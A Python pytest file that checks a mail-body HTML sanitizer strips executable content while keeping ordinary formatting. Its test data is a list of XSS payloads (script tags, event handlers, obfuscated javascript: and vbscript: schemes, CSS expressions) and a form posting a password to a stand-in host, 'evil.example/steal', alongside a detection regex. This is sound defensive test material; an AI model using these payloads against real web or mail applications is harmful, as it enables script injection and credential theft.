"""sanitize_html leaves nothing executable in a mail body and keeps its ordinary formatting."""
import re

import pytest

from addons_mail.chatter.sanitize import is_dangerous_css, sanitize_html

XSS_ATTEMPTS = {
    "script tag": '<p>hi</p><script>alert(1)</script>',
    "img onerror": '<img src="x" onerror="alert(1)">',
    "a javascript href": '<a href="javascript:alert(1)">x</a>',
    "mixed-case scheme with entity": '<a href="JaVaScRiPt&#58;alert(1)">x</a>',
    "scheme split by a tab entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "scheme with leading spaces": '<a href="  javascript:alert(1)">x</a>',
    "vbscript href": '<a href="vbscript:msgbox(1)">x</a>',
    "data text/html href": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data image src": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "inline svg onload": '<svg onload="alert(1)"><circle r="1"/></svg>',
    "css expression in style attribute": '<div style="width: expression(alert(1))">d</div>',
    "escaped css expression": '<div style="width: ex\\70 ression(alert(1))">d</div>',
    "css javascript url": '<div style="background:url(javascript:alert(1))">d</div>',
    "style block with expression": '<style>p { width: expression(alert(1)) }</style><p>x</p>',
    "style block with javascript url": '<style>body{background:url("javascript:alert(1)")}</style>',
    "form with action": '<form action="https://evil.example/steal"><input name="pw"></form>',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "body onload": '<body onload="alert(1)">x</body>',
}

EXECUTABLE = re.compile(
    r"<script|<svg|<iframe|<object|<embed|<form|<meta|\son\w+\s*=|javascript:|vbscript:|data:|expression\(",
    re.IGNORECASE,
)


@pytest.mark.parametrize("html", XSS_ATTEMPTS.values(), ids=XSS_ATTEMPTS.keys())
def test_xss_attempt_leaves_nothing_executable(html):
    cleaned = sanitize_html(html)
    assert not EXECUTABLE.search(cleaned), cleaned


def test_normal_formatting_survives():
    html = (
        '<p>Hello <b>bold</b> <i>italic</i> <a href="https://example.com/x">link</a></p>'
        '<table><tr><td>cell</td></tr></table><img src="cid:logo@example.com" alt="logo">'
        '<a href="mailto:sales@example.com">mail us</a>'
    )
    cleaned = sanitize_html(html)
    for kept in ("<b>bold</b>", "<i>italic</i>", 'href="https://example.com/x"', "<td>cell</td>",
                 'src="cid:logo@example.com"', 'href="mailto:sales@example.com"'):
        assert kept in cleaned
    assert 'rel="noopener noreferrer"' in cleaned


def test_harmless_style_block_and_attribute_are_kept():
    cleaned = sanitize_html('<style>p { color: red }</style><p style="color: blue">x</p>')
    assert "<style>p { color: red }</style>" in cleaned
    assert 'style="color: blue"' in cleaned


def test_dangerous_css_detection_sees_through_comments_and_escapes():
    assert is_dangerous_css("width: ex/**/pression(alert(1))")
    assert is_dangerous_css("background: url( 'vbscript:x' )")
    assert not is_dangerous_css("background: url(https://example.com/bg.png); color: red")


def test_empty_input_gives_empty_output():
    assert sanitize_html("") == ""
    assert sanitize_html("   \n") == ""
